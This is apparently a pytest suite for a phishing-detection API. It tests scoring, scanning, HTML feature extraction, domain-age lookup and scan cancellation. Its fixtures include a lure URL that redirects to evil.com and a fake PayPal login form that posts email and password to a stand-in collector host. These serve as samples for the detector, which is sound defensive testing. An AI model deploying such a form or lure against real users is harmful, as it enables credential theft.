"""
HTTP API tests
"""

import asyncio
from datetime import datetime, timezone

import httpx
import pytest
from fastapi.testclient import TestClient
from playwright.async_api import TimeoutError as PlaywrightTimeoutError

from riskscan_agent import main, page_capture
from riskscan_agent.domain_age import build_age_record


PHISH_URL = "http://paypal-secure-login.xyz/verify?redirect=http://evil.com"
LOGIN_PAGE = """
<html><head><title>PayPal</title></head><body>
<form action="https://collector.evil.test/p" method="post">
  <input type="email" name="email"><input type="password" name="password">
</form>
</body></html>
"""


@pytest.fixture
def client(monkeypatch):
    """Client whose orchestrator makes no network calls"""
    monkeypatch.setattr(main.orchestrator, "age_resolver", None)
    monkeypatch.setattr(main.orchestrator, "cert_inspector", None)
    monkeypatch.setattr(main.orchestrator, "threat_gateway", None)
    main.pending.clear()
    return TestClient(main.app)


class FakeResolver:
    def __init__(self, record=None):
        self.record = record

    async def resolve(self, hostname, timeout=None):
        return self.record

    def stats(self):
        return {"total_requests": 0}


class TestHealth:
    def test_healthz(self, client):
        res = client.get("/healthz")
        assert res.status_code == 200
        assert res.json() == {"ok": True}


class TestScore:
    """POST /score"""

    def test_url_only(self, client):
        res = client.post("/score", json={"url": PHISH_URL})
        assert res.status_code == 200
        body = res.json()
        assert body["score"] == 70
        assert body["label"] == "DANGEROUS"
        assert "PayPal" in body["reasons"][0]

    def test_with_page(self, client):
        res = client.post("/score", json={"url": "https://example.com/", "html": LOGIN_PAGE})
        assert res.status_code == 200
        assert any("external domain" in r for r in res.json()["reasons"])

    def test_invalid_url(self, client):
        res = client.post("/score", json={"url": "not a url"})
        assert res.status_code == 400


class TestScan:
    """POST /scan"""

    def test_scan_with_html(self, client):
        res = client.post("/scan", json={"url": PHISH_URL, "html": LOGIN_PAGE, "scan_type": "manual"})
        assert res.status_code == 200
        body = res.json()
        assert body["riskLabel"] == "DANGEROUS"
        assert body["riskScore"] == 100
        assert body["scanType"] == "manual"
        assert body["webRiskCalled"] is False
        assert body["metadata"]["skipped"]["threat_intel"] == "not_configured"
        assert "html" in body["metadata"]["enrichments"]

    def test_scan_for_tab(self, client):
        res = client.post("/scan", json={"url": "https://example.com/", "html": "<p>hi</p>", "tab_id": "t1"})
        assert res.status_code == 200
        assert res.json()["url"] == "https://example.com/"

    def test_invalid_url(self, client):
        assert client.post("/scan", json={"url": "paypal.com"}).status_code == 400

    def test_cancel_unknown_tab(self, client):
        assert client.delete("/scan/t-unknown").json() == {"cancelled": False}


class TestHtmlFeatures:
    """POST /html-features"""

    def test_stores_record_for_later_scan(self, client):
        res = client.post("/html-features", json={"url": "https://example.com/login", "html": LOGIN_PAGE})
        assert res.status_code == 200
        body = res.json()
        assert body["delivered"] is False
        assert body["features"]["has_login_form"] is True
        assert "https://example.com/login" in main.pending


class TestStats:
    def test_usage(self, client):
        body = client.get("/stats/usage").json()
        assert set(body) >= {"month", "used", "limit", "remaining", "percent_used", "near_limit", "exhausted"}

    def test_domain_age_stats(self, client):
        body = client.get("/stats/domain-age").json()
        assert "cache_size" in body
        assert "cache_hit_rate" in body


class TestDomainAge:
    """GET /api/domain-age"""

    def test_not_found(self, client, monkeypatch):
        monkeypatch.setattr(main, "age_resolver", FakeResolver())
        assert client.get("/api/domain-age", params={"domain": "unknown.test"}).status_code == 404

    def test_found(self, client, monkeypatch):
        now = datetime(2024, 6, 1, tzinfo=timezone.utc)
        record = build_age_record("example.com", datetime(2010, 1, 1, tzinfo=timezone.utc), now, source="rdap")
        monkeypatch.setattr(main, "age_resolver", FakeResolver(record))
        body = client.get("/api/domain-age", params={"domain": "example.com"}).json()
        assert body["domain"] == "example.com"
        assert body["age_category"] == "OLD"


class TestRenderedScan:
    """POST /scan with render=true"""

    def test_failed_render_does_not_hold_the_scan(self, client, monkeypatch):
        async def broken_render(url, *, timeout_ms=12000):
            raise PlaywrightTimeoutError("Timeout exceeded")

        monkeypatch.setattr(page_capture, "render_html", broken_render)
        res = client.post("/scan", json={"url": "https://example.com/", "render": True})
        assert res.status_code == 200
        meta = res.json()["metadata"]
        assert meta["skipped"]["html"] == "timeout"
        assert meta["timings_ms"]["html"] < 2000

    def test_supplied_html_skips_the_browser(self, client, monkeypatch):
        rendered = []

        async def render(url, *, timeout_ms=12000):
            rendered.append(url)
            return "<p>rendered</p>"

        monkeypatch.setattr(page_capture, "render_html", render)
        res = client.post("/scan", json={"url": PHISH_URL, "html": LOGIN_PAGE, "render": True})
        assert res.status_code == 200
        assert rendered == []
        assert "html" in res.json()["metadata"]["enrichments"]


class SlowResolver(FakeResolver):
    async def resolve(self, hostname, timeout=None):
        await asyncio.sleep(2)
        return None


class TestCancelScan:
    """DELETE /scan/{tab_id}"""

    def test_closing_tab_cancels_its_scan(self, client, monkeypatch):
        monkeypatch.setattr(main.orchestrator, "age_resolver", SlowResolver())

        async def scenario():
            transport = httpx.ASGITransport(app=main.app)
            async with httpx.AsyncClient(transport=transport, base_url="http://agent.test") as ac:
                body = {"url": "https://example.com/", "html": "<p>hi</p>", "tab_id": "t-closed"}
                scan = asyncio.create_task(ac.post("/scan", json=body))
                for _ in range(100):
                    if main.supervisor.active("t-closed"):
                        break
                    await asyncio.sleep(0.01)
                cancelled = await ac.delete("/scan/t-closed")
                return cancelled.json(), await scan

        cancelled, scan = asyncio.run(scenario())
        assert cancelled == {"cancelled": True}
        assert scan.status_code == 409
